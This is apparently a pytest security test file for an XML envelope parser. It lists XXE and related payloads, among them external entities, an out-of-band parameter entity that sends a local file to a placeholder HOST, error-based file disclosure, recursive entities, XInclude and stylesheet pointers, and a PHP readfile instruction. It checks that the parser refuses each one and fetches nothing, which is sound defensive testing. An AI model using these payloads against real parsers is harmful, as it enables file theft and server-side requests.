"""TM-04: whatever a file points at, nothing is opened or called; it is refused instead.

The shapes are our own. Each goes the whole way in (splitter, gate, reader) and through the parser alone, beside a
canary: a file watched by the kernel, a listening address, and `connect` and `open` that fail the test.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from lxml import etree

from envelopes.dom import safe_parser
from envelopes.faults import Refused
from envelopes.limits import NS
from tests.envelopes.messages import read_file, swap
from tests.support.canary import SECRET, canary
from tests.threats.forms import FORMS, shared_world, signed_letter
from tests.threats.taking import code_of
from tests.threats.ways import LETTER, SUBJECT, WAYS, told

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.canary import Canary


DOCTYPES = {
    "nothing in it": "<!DOCTYPE edXML>",
    "external subset, file": '<!DOCTYPE edXML SYSTEM "file://FILE">',
    "external subset, plain path": '<!DOCTYPE edXML SYSTEM "FILE">',
    "external subset, http": '<!DOCTYPE edXML SYSTEM "http://HOST/x.dtd">',
    "external subset, ftp": '<!DOCTYPE edXML SYSTEM "ftp://HOST/x.dtd">',
    "external subset, public": '<!DOCTYPE edXML PUBLIC "-//BTTTT//edXML//VI" "http://HOST/edxml.dtd">',
    "external entity": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file://FILE">]>',
    "external entity, http": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "http://HOST/x">]>',
    "external entity, public": '<!DOCTYPE edXML [<!ENTITY x PUBLIC "a" "file://FILE">]>',
    "external entity, other schemes": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "jar:http://HOST/x.jar!/a">]>',
    "external entity, data": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "data:text/plain,x">]>',
    "external entity, folder": '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file://FOLDER">]>',
    "internal entity": '<!DOCTYPE edXML [<!ENTITY x "y">]>',
    "parameter entity": '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "file://FILE"> %p; <!ENTITY x "">]>',
    "parameter entity, http": '<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://HOST/p"> %p;]>',
    "parameter entity sends a file": (
        '<!DOCTYPE edXML [<!ENTITY % f SYSTEM "file://FILE">'
        "<!ENTITY % d \"<!ENTITY &#37; s SYSTEM 'http://HOST/?%f;'>\"> %d; %s;]>"
    ),
    "error tells a file": (
        '<!DOCTYPE edXML [<!ENTITY % f SYSTEM "file://FILE">'
        "<!ENTITY % d \"<!ENTITY &#37; e SYSTEM 'file:///none/%f;'>\"> %d; %e;]>"
    ),
    "unparsed entity": '<!DOCTYPE edXML [<!NOTATION n SYSTEM "file://FILE"><!ENTITY x SYSTEM "file://FILE" NDATA n>]>',
    "default attribute": f'<!DOCTYPE edXML [<!ATTLIST edXML xmlns CDATA #FIXED "{NS}" a CDATA "b">]>',
    "both subsets": '<!DOCTYPE edXML SYSTEM "http://HOST/x.dtd" [<!ENTITY x SYSTEM "file://FILE">]>',
    "entity of itself": '<!DOCTYPE edXML [<!ENTITY x "&x;">]>',
    "entities of each other": '<!DOCTYPE edXML [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    "element declared": "<!DOCTYPE edXML [<!ELEMENT edXML ANY>]>",
    "over several lines": '<!DOCTYPE\n edXML\n SYSTEM\n "file://FILE"\n>',
    "a catalogue before it": '<?oasis-xml-catalog catalog="file://FILE"?><!DOCTYPE edXML SYSTEM "x:y">',
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", DOCTYPES)
def test_doctype_is_refused_and_nothing_is_fetched(bird: Canary, name: str, way: str) -> None:
    doctype = bird.fill(DOCTYPES[name])
    for file in (
        LETTER,
        swap(LETTER, SUBJECT, "&x;"),
        swap(LETTER, 'Manifest version="1.0"', 'Manifest version="&x;"'),
    ):
        start = file.index(b"<edXML") if not file.startswith(b"<?xml") else file.index(b"?>") + 2
        codes = told(WAYS[way], file[:start] + doctype.encode() + file[start:])
        assert codes == {"envelope.doctype"}


@pytest.mark.parametrize("name", DOCTYPES)
def test_bare_parser_fetches_nothing(bird: Canary, name: str) -> None:
    """libxml2 opens what a DOCTYPE names as soon as it is told not to collect ids."""
    shape = bird.fill(DOCTYPES[name])
    for body in ("<edXML/>", "<edXML>&x;</edXML>", "<edXML a='&x;'/>"):
        try:
            root = etree.fromstring((shape + body).encode(), safe_parser())
        except etree.XMLSyntaxError as error:
            assert SECRET not in str(error)
        else:
            assert SECRET not in etree.tostring(root.getroottree(), encoding="unicode")


XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
XSI = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
POINTERS = {
    "XInclude of text": f'<xi:include {XI} href="FILE" parse="text"/>',
    "XInclude of XML": f'<xi:include {XI} href="http://HOST/x.xml"/>',
    "XInclude with a fallback": (
        f'<xi:include {XI} href="http://HOST/x"><xi:fallback><xi:include href="FILE" parse="text"/></xi:fallback>'
        "</xi:include>"
    ),
    "XInclude of an older year": '<i:include xmlns:i="http://www.w3.org/2003/XInclude" href="FILE" parse="text"/>',
    "XInclude of itself": f'<xi:include {XI} href="" xpointer="xpointer(/*)"/>',
    "schema location": f'<a {XSI} xsi:schemaLocation="{NS} http://HOST/edxml.xsd"/>',
    "schema without namespace": f'<a {XSI} xsi:noNamespaceSchemaLocation="file://FILE"/>',
    "base": '<a xml:base="http://HOST/" href="x"/>',
    "link": '<a xmlns:l="http://www.w3.org/1999/xlink" l:type="simple" l:show="embed" l:href="FILE"/>',
    "stylesheet inside": '<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform" version="1.0">'
    '<t:include href="http://HOST/x.xsl"/></t:stylesheet>',
}
INSTRUCTIONS = {
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="http://HOST/x.xsl"?>',
    "model": '<?xml-model href="file://FILE"?>',
    "catalogue": '<?oasis-xml-catalog catalog="file://FILE"?>',
    "PHP": "<?php readfile('FILE'); ?>",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", POINTERS)
def test_pointer_in_the_signed_part_is_not_followed(bird: Canary, name: str, way: str) -> None:
    """What is known to nobody is passed on as it is, unread, and strictly refused."""
    file = swap(LETTER, "</edXML:MessageHeader>", bird.fill(POINTERS[name]) + "</edXML:MessageHeader>")
    assert told(WAYS[way], file) == set()
    with pytest.raises(Refused, match=r"element\.odd"):
        read_file(file, lenient=False)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", POINTERS)
def test_pointer_elsewhere_is_refused_and_not_followed(bird: Canary, name: str, way: str) -> None:
    pointer = bird.fill(POINTERS[name])
    for before in ("<edXML:edXMLBody>", "</edXML>", "</AttachmentEncoded>", "</edXML:edXMLHeader>"):
        codes = told(WAYS[way], swap(LETTER, before, pointer + before))
        assert "element.unknown" in codes
    values = told(WAYS[way], swap(LETTER, SUBJECT, pointer))
    assert "element.in_value" in values


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", INSTRUCTIONS)
def test_instruction_is_refused_and_not_followed(bird: Canary, name: str, way: str) -> None:
    instruction = bird.fill(INSTRUCTIONS[name])
    for before in ("<edXML:edXMLEnvelope", SUBJECT, "<edXML xmlns"):
        assert told(WAYS[way], swap(LETTER, before, instruction + before)) == {"envelope.instruction"}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("reference", ["&x;", "&nbsp;", "&#0;", "&#xFFFE;", "&#x110000;", "&#xD800;", "&;", "&#;"])
def test_reference_to_nothing_is_refused(bird: Canary, reference: str, way: str) -> None:
    assert told(WAYS[way], swap(LETTER, SUBJECT, reference)) == {"envelope.not_xml"}


def test_canary_sings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each of its three senses works; else the tests above would show nothing."""
    unsafe = etree.XMLParser(load_dtd=True, resolve_entities=True, no_network=False)
    shape = '<!DOCTYPE a [<!ENTITY x SYSTEM "file://FILE">]><a>&x;</a>'
    with pytest.raises(AssertionError, match="opened"), canary(tmp_path, monkeypatch) as made:
        assert etree.fromstring(made.fill(shape), unsafe).text == SECRET
    with pytest.raises(AssertionError, match="used"), canary(tmp_path, monkeypatch) as made, pytest.raises(OSError):
        made.path.read_text()
    with pytest.raises(AssertionError, match="called"), canary(tmp_path, monkeypatch) as made:
        import _socket

        plain = _socket.socket()
        plain.connect(("127.0.0.1", made.port))
        plain.close()


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("name", DOCTYPES)
def test_doctype_in_a_signed_file_is_refused_and_nothing_is_fetched(bird: Canary, form: str, name: str) -> None:
    file = signed_letter(form)
    doctype = bird.fill(DOCTYPES[name]).encode()
    assert code_of(shared_world(), file.replace(b"<edXML ", doctype + b"<edXML ", 1)) == "envelope.doctype"
